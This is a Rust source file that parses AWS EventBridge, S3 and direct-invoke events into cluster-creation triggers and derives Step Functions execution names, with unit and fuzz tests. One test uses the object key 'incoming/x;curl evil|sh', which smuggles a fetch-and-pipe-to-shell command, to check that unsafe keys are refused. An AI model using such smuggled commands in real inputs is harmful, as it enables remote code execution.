//! What started this invocation, parsed from the raw event. Pure.

use crate::ProfileName;
use crate::events::EventBridgeEvent;
use crate::profile::StepSpec;
use jiff::Timestamp;
use serde::Deserialize;
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::create::error::CreateError;
use crate::create::object_key::ObjectKey;

/// Prefix of EventBridge rule names that name their profile (`sparkhub-<profile>`).
pub const RULE_PREFIX: &str = "sparkhub-";

#[derive(Debug, Clone, PartialEq)]
pub enum Trigger {
    /// `{"profile": ..., "steps"?: [...], "run_id"?: ...}`: an EventBridge
    /// Scheduler target, a rule's input transformer, or a manual invoke.
    Direct {
        profile: ProfileName,
        steps: Option<Vec<StepSpec>>,
        run_id: Option<String>,
        /// When: the cluster must be ready by then (a person's `ready_by`,
        /// or a `ready_by` schedule's, from its `scheduled_time`).
        when: When,
        /// The EventBridge event of a profile's event-pattern trigger (the
        /// rule's input transformer passes it whole), for `{event:<path>}`
        /// step arguments.
        event: Option<Value>,
        /// Start even if the profile's monthly budget is spent (a person's
        /// explicit choice; logged and recorded in the history).
        override_budget: bool,
    },
    /// An EventBridge rule's "Scheduled Event"; the rule is named `sparkhub-<profile>`.
    Scheduled {
        event_id: String,
        profile: ProfileName,
    },
    /// An EventBridge "Object Created" event from S3; the key is checked
    /// safe for a step argument.
    ObjectCreated {
        event_id: String,
        bucket: String,
        key: ObjectKey,
    },
}

/// When a direct run's cluster is wanted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum When {
    /// Now.
    #[default]
    Now,
    /// Ready by this instant.
    ReadyBy(Timestamp),
    /// A schedule fired that was due at this instant: a `ready_by`
    /// schedule's run is wanted ready [`READY_BY_SCHEDULE_LEAD`] later.
    ///
    /// [`READY_BY_SCHEDULE_LEAD`]: crate::profile::READY_BY_SCHEDULE_LEAD
    Scheduled(Timestamp),
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct DirectInput {
    profile: String,
    #[serde(default)]
    steps: Option<Vec<StepSpec>>,
    #[serde(default)]
    run_id: Option<String>,
    #[serde(default)]
    ready_by: Option<String>,
    #[serde(default)]
    scheduled_time: Option<String>,
    #[serde(default)]
    event: Option<Value>,
    #[serde(default)]
    override_budget: bool,
}

fn instant(field: &str, text: &str) -> Result<Timestamp, CreateError> {
    text.parse().map_err(|_| {
        bad(format!(
            "\"{field}\": {text:?} is not an RFC 3339 instant (like \"2026-12-07T08:00:00Z\" or \"2026-12-07T09:00:00+01:00\")"
        ))
    })
}

#[derive(Deserialize)]
struct ObjectCreatedDetail {
    bucket: S3Bucket,
    object: S3Object,
}

#[derive(Deserialize)]
struct S3Bucket {
    name: String,
}

#[derive(Deserialize)]
struct S3Object {
    key: String,
}

const EXPECTED: &str = "expected {\"profile\": \"<name>\"} (optionally with \"steps\", \"run_id\", \"ready_by\"), \
an EventBridge \"Scheduled Event\", or an EventBridge S3 \"Object Created\" event";

fn bad(message: String) -> CreateError {
    CreateError::BadEvent(message)
}

/// Recognises the event; anything else is a `BadEvent` that names what was expected.
pub fn parse(event: &Value) -> Result<Trigger, CreateError> {
    if event.get("detail-type").is_some() {
        return parse_eventbridge(event);
    }
    if event.get("profile").is_some() {
        let input: DirectInput =
            serde_json::from_value(event.clone()).map_err(|e| bad(format!("{e}; {EXPECTED}")))?;
        let profile = ProfileName::parse(&input.profile).map_err(bad)?;
        if let Some(steps) = &input.steps {
            refuse_unknown_step_fields(&event["steps"], steps)?;
        }
        if let Some(run_id) = &input.run_id
            && run_id.trim().is_empty()
        {
            return Err(bad(
                "\"run_id\" is empty; leave it out or give the run an id".into(),
            ));
        }
        let when = match (&input.ready_by, &input.scheduled_time) {
            (Some(_), Some(_)) => {
                return Err(bad(
                    "\"ready_by\" and \"scheduled_time\" together; give the one instant the cluster must be ready by".into(),
                ));
            }
            (Some(t), None) => When::ReadyBy(instant("ready_by", t)?),
            (None, Some(t)) => When::Scheduled(instant("scheduled_time", t)?),
            (None, None) => When::Now,
        };
        if let Some(event) = &input.event
            && !event.is_object()
        {
            return Err(bad(
                "\"event\" must be the EventBridge event as a JSON object".into(),
            ));
        }
        return Ok(Trigger::Direct {
            profile,
            steps: input.steps,
            run_id: input.run_id,
            when,
            event: input.event,
            override_budget: input.override_budget,
        });
    }
    Err(bad(format!("unrecognised event; {EXPECTED}")))
}

/// A step field the step type does not know (a typo such as `nme`) is an
/// error, not silently dropped: every field a step has comes back when it is
/// serialized, so a field of the event that does not is unknown.
fn refuse_unknown_step_fields(raw: &Value, steps: &[StepSpec]) -> Result<(), CreateError> {
    let Some(raw) = raw.as_array() else {
        return Ok(());
    };
    for (i, (raw, step)) in raw.iter().zip(steps).enumerate() {
        let known = serde_json::to_value(step).expect("a step serializes");
        if let (Some(raw), Some(known)) = (raw.as_object(), known.as_object())
            && let Some(field) = raw.keys().find(|k| !known.contains_key(*k))
        {
            return Err(bad(format!(
                "steps[{i}]: unknown field {field:?}; a step has {}",
                known
                    .keys()
                    .map(|k| format!("{k:?}"))
                    .collect::<Vec<_>>()
                    .join(", ")
            )));
        }
    }
    Ok(())
}

fn parse_eventbridge(event: &Value) -> Result<Trigger, CreateError> {
    let envelope: EventBridgeEvent = serde_json::from_value(event.clone())
        .map_err(|e| bad(format!("malformed EventBridge event: {e}")))?;
    let event_id = envelope
        .id
        .clone()
        .filter(|id| !id.is_empty())
        .ok_or_else(|| {
            bad("EventBridge event without an \"id\"; sparkhub derives the run from it".into())
        })?;
    match (envelope.source.as_str(), envelope.detail_type.as_str()) {
        ("aws.events", "Scheduled Event") => {
            let rule_arn = envelope
                .resources
                .as_deref()
                .and_then(|r| r.first())
                .ok_or_else(|| bad("Scheduled Event without the rule in \"resources\"".into()))?;
            let rule = rule_arn.rsplit('/').next().unwrap_or(rule_arn);
            let profile = rule.strip_prefix(RULE_PREFIX).ok_or_else(|| {
                bad(format!(
                    "rule {rule:?} does not name a profile: name the rule {RULE_PREFIX}<profile>, \
                     or give its target the input {{\"profile\": \"<name>\", \"run_id\": <event id>}}"
                ))
            })?;
            let profile =
                ProfileName::parse(profile).map_err(|e| bad(format!("rule {rule:?}: {e}")))?;
            Ok(Trigger::Scheduled { event_id, profile })
        }
        ("aws.s3", "Object Created") => {
            let detail: ObjectCreatedDetail =
                serde_json::from_value(envelope.detail).map_err(|e| {
                    bad(format!(
                        "S3 Object Created event with a malformed detail: {e}"
                    ))
                })?;
            let key = ObjectKey::parse(&detail.object.key).map_err(|reason| {
                CreateError::UnsafeObjectKey {
                    bucket: detail.bucket.name.clone(),
                    key: detail.object.key.clone(),
                    reason,
                }
            })?;
            Ok(Trigger::ObjectCreated {
                event_id,
                bucket: detail.bucket.name,
                key,
            })
        }
        (source, detail_type) => Err(bad(format!(
            "EventBridge event {detail_type:?} from {source:?} is not one create-cluster handles; {EXPECTED}"
        ))),
    }
}

/// Step Functions' limit on an execution name.
pub const MAX_EXECUTION_NAME: usize = 80;
/// Hex digits of the run id's SHA-256 in an execution name (48 bits).
const HASH_HEX: usize = 12;

/// The execution name for a run: `<profile>_<run id>_<hash>`, where the run
/// id has the characters Step Functions does not allow replaced by `-` and is
/// cut to fit 80 characters, and the hash is the start of the SHA-256 of the
/// raw run id. Cleaning and cutting lose information (`a:b` and `a-b` clean
/// alike); the hash keeps different triggers apart, and the same trigger
/// always gives the same name, which is what makes a duplicate delivery
/// start nothing new. Profile names have no `_`, so the first `_` ends the
/// profile ([`profile_of_execution`]).
pub fn execution_name(profile: &ProfileName, run_id: &str) -> String {
    let digest = Sha256::digest(run_id.as_bytes());
    let hash: String = digest
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect::<String>()[..HASH_HEX]
        .to_owned();
    let room = MAX_EXECUTION_NAME - profile.as_str().len() - HASH_HEX - 2;
    let clean: String = run_id
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '-' || c == '_' {
                c
            } else {
                '-'
            }
        })
        .take(room)
        .collect();
    format!("{profile}_{clean}_{hash}")
}

/// The profile an execution name of [`execution_name`] belongs to.
pub fn profile_of_execution(name: &str) -> Option<&str> {
    name.split_once('_').map(|(profile, _)| profile)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::errors::Failure;
    use serde_json::json;

    fn fixture(name: &str) -> Value {
        let path = crate::testing::workspace_root().join("events").join(name);
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap()
    }

    fn profile(name: &str) -> ProfileName {
        ProfileName::parse(name).unwrap()
    }

    #[test]
    fn sample_events_parse_into_their_triggers() {
        assert_eq!(
            parse(&fixture("create-cluster-manual.json")).unwrap(),
            Trigger::Direct {
                profile: profile("tutorial"),
                steps: None,
                run_id: None,
                when: When::Now,
                event: None,
                override_budget: false,
            }
        );
        let Trigger::Direct { run_id, .. } =
            parse(&fixture("create-cluster-scheduler-target.json")).unwrap()
        else {
            panic!("a scheduler target is direct input")
        };
        assert_eq!(run_id.as_deref(), Some("schedule-2026-11-25T07:00:00Z"));
        assert_eq!(
            parse(&fixture("create-cluster-scheduled-event.json")).unwrap(),
            Trigger::Scheduled {
                event_id: "53dc4d37-cffa-4f76-80c9-8b7d4a4d2eaa".into(),
                profile: profile("tutorial")
            }
        );
        assert_eq!(
            parse(&fixture("create-cluster-s3-object-created.json")).unwrap(),
            Trigger::ObjectCreated {
                event_id: "17793124-05d4-b198-2fde-7ededc63b103".into(),
                bucket: "training-data-example".into(),
                key: ObjectKey::parse("incoming/2026-11-25/batch-0001.csv").unwrap(),
            }
        );
        let Trigger::Direct { steps, .. } =
            parse(&fixture("create-cluster-pipeline-run.json")).unwrap()
        else {
            panic!("direct")
        };
        assert_eq!(steps.unwrap()[0].name, "score");
    }

    #[test]
    fn unknown_shapes_are_bad_events_that_say_what_was_expected() {
        let cases = [
            json!({}),
            json!({"Records": []}),
            json!({"profile": "Tutorial"}),
            json!({"profile": "tutorial", "steps": [{"nme": "x"}]}),
            json!({"profile": "tutorial", "extra": 1}),
            json!({"profile": "tutorial", "run_id": " "}),
            json!({"detail-type": "EC2 Instance State-change Notification", "source": "aws.ec2", "id": "1", "detail": {}}),
            json!({"detail-type": "Scheduled Event", "source": "aws.events", "id": "1", "resources": ["arn:aws:events:r:1:rule/nightly"], "detail": {}}),
            json!({"detail-type": "Scheduled Event", "source": "aws.events", "id": "1", "detail": {}}),
            json!({"detail-type": "Object Created", "source": "aws.s3", "id": "1", "detail": {"bucket": {}}}),
            json!({"detail-type": "Object Created", "source": "aws.s3", "detail": {"bucket": {"name": "b"}, "object": {"key": "k"}}}),
        ];
        for case in cases {
            match parse(&case) {
                Err(CreateError::BadEvent(message)) => assert!(!message.is_empty()),
                other => panic!("{case} should be a bad event, got {other:?}"),
            }
        }
        let Err(CreateError::BadEvent(m)) = parse(&json!({"foo": 1})) else {
            panic!()
        };
        assert!(
            m.contains("Scheduled Event") && m.contains("Object Created"),
            "{m}"
        );
    }

    #[test]
    fn execution_names_are_stable_valid_short_and_distinct() {
        let p = profile("tutorial");
        assert_eq!(
            execution_name(&p, "schedule-2026-11-25T07:00:00Z"),
            "tutorial_schedule-2026-11-25T07-00-00Z_f49b8da7518b"
        );
        // Ids that clean alike are different triggers: different names.
        let pairs = [("a:b", "a-b"), ("x y", "x_y"), ("ü", "?")];
        for (one, other) in pairs {
            assert_ne!(
                execution_name(&p, one),
                execution_name(&p, other),
                "{one:?} vs {other:?}"
            );
        }
        let long = "x".repeat(200);
        let name = execution_name(&p, &long);
        assert!(name.len() <= 80 && name.starts_with("tutorial_"), "{name}");
        assert_eq!(
            name,
            execution_name(&p, &long),
            "the same run id gives the same name"
        );
        assert_ne!(
            name,
            execution_name(&p, &format!("{long}y")),
            "a difference past the cut"
        );
        let longest = profile(&"p".repeat(40));
        assert_eq!(execution_name(&longest, &long).len(), 80);
        assert_eq!(profile_of_execution(&name), Some("tutorial"));
        assert_eq!(
            profile_of_execution(&execution_name(&profile("a-b"), "c_d")),
            Some("a-b")
        );
    }

    #[test]
    fn unsafe_object_keys_are_refused_before_anything_runs() {
        let mut event = fixture("create-cluster-s3-object-created.json");
        event["detail"]["object"]["key"] = json!("incoming/x;curl evil|sh");
        let err = parse(&event).unwrap_err();
        assert!(matches!(err, CreateError::UnsafeObjectKey { .. }), "{err}");
        assert_eq!(err.error_type(), "sparkhub.UnsafeObjectKey");
        assert!(!err.is_retryable());
        let text = err.to_string();
        assert!(
            text.contains("s3://training-data-example/incoming/x;curl evil|sh")
                && text.contains("';'"),
            "{text}"
        );
    }

    mod fuzz {
        use super::*;
        use proptest::prelude::*;

        fn config() -> ProptestConfig {
            ProptestConfig {
                cases: 3000,
                rng_seed: proptest::test_runner::RngSeed::Fixed(12),
                failure_persistence: None,
                ..ProptestConfig::default()
            }
        }

        /// Arbitrary JSON, biased toward the shapes create-cluster knows.
        fn arb_json() -> impl Strategy<Value = Value> {
            let leaf = prop_oneof![
                Just(Value::Null),
                any::<bool>().prop_map(Value::from),
                any::<i64>().prop_map(Value::from),
                any::<f64>().prop_map(|f| json!(f)),
                ".{0,20}".prop_map(Value::from),
                prop_oneof![
                    Just("tutorial"),
                    Just("Scheduled Event"),
                    Just("Object Created"),
                    Just("aws.s3"),
                    Just("aws.events"),
                    Just("arn:aws:events:r:1:rule/sparkhub-tutorial"),
                ]
                .prop_map(Value::from),
            ];
            let keys = prop_oneof![
                Just("profile".to_owned()),
                Just("steps".to_owned()),
                Just("run_id".to_owned()),
                Just("detail-type".to_owned()),
                Just("source".to_owned()),
                Just("id".to_owned()),
                Just("resources".to_owned()),
                Just("detail".to_owned()),
                Just("bucket".to_owned()),
                Just("object".to_owned()),
                Just("name".to_owned()),
                Just("key".to_owned()),
                Just("args".to_owned()),
                ".{0,8}",
            ];
            leaf.prop_recursive(4, 48, 6, move |inner| {
                prop_oneof![
                    prop::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
                    prop::collection::btree_map(keys.clone(), inner, 0..6)
                        .prop_map(|m| Value::Object(m.into_iter().collect())),
                ]
            })
        }

        /// Every sample event with one field replaced by arbitrary JSON.
        fn arb_mutated_sample() -> impl Strategy<Value = Value> {
            let samples = [
                "create-cluster-manual.json",
                "create-cluster-scheduler-target.json",
                "create-cluster-scheduled-event.json",
                "create-cluster-s3-object-created.json",
                "create-cluster-pipeline-run.json",
            ]
            .map(fixture);
            let paths: &[&[&str]] = &[
                &["profile"],
                &["run_id"],
                &["steps"],
                &["id"],
                &["source"],
                &["detail-type"],
                &["resources"],
                &["detail"],
                &["detail", "bucket"],
                &["detail", "object", "key"],
                &["time"],
            ];
            (0..samples.len(), 0..paths.len(), arb_json()).prop_map(move |(s, p, value)| {
                let mut event = samples[s].clone();
                let path = paths[p];
                let mut at = &mut event;
                for step in &path[..path.len() - 1] {
                    at = &mut at[*step];
                }
                if at.is_object() || at.is_null() {
                    at[path[path.len() - 1]] = value;
                }
                event
            })
        }

        fn decoded_or_typed(event: &Value) -> Result<(), TestCaseError> {
            match parse(event) {
                Ok(Trigger::ObjectCreated { key, .. }) => {
                    prop_assert!(ObjectKey::parse(key.as_str()).is_ok());
                }
                Ok(_) => {}
                Err(CreateError::BadEvent(m)) => prop_assert!(!m.is_empty()),
                Err(CreateError::UnsafeObjectKey { .. }) => {}
                Err(other) => prop_assert!(false, "unexpected error {other:?}"),
            }
            Ok(())
        }

        proptest! {
            #![proptest_config(config())]

            #[test]
            fn arbitrary_json_decodes_or_is_a_bad_event(event in arb_json()) {
                decoded_or_typed(&event)?;
            }

            #[test]
            fn mutated_samples_decode_or_are_bad_events(event in arb_mutated_sample()) {
                decoded_or_typed(&event)?;
            }

            /// Arbitrary bytes as the Lambda runtime would get them: not JSON
            /// (the runtime refuses it before the handler) or JSON the parser
            /// decodes or refuses.
            #[test]
            fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..256)) {
                if let Ok(event) = serde_json::from_slice::<Value>(&bytes) {
                    decoded_or_typed(&event)?;
                }
            }

            #[test]
            fn any_run_id_gives_a_valid_name(run_id in any::<String>(), p in "[a-z0-9][a-z0-9-]{0,39}") {
                let p = ProfileName::parse(&p).unwrap();
                let name = execution_name(&p, &run_id);
                prop_assert!(name.len() <= MAX_EXECUTION_NAME);
                prop_assert!(name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_'));
                prop_assert_eq!(profile_of_execution(&name), Some(p.as_str()));
            }
        }
    }
}
